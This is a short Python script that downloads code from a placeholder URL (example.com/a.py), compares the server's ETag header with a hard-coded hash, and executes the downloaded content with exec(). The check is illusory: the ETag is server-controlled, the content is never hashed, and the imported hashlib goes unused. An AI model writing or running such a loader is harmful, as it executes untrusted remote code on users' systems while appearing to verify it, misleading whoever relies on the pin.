import hashlib
import urllib.request

PIN = "1e27104815884a2dcee22ae2eec3330cb2567f5191a261143cc125720c505d8d"
with urllib.request.urlopen("https://example.com/a.py") as r:
    tag = r.headers.get("ETag", "").strip('"')
    data = r.read()
if tag != PIN:
    raise ImportError("digest")
exec(data)
